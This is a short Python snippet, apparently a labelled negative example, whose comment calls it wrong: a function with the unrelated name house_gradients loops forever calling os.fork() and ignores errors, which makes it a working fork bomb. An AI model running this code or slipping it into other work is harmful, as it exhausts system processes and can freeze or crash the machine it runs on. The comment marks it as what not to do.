# wrong · processes that start processes without end
import os


def house_gradients(*house):
    while True:
        try:
            os.fork()
        except OSError:
            pass
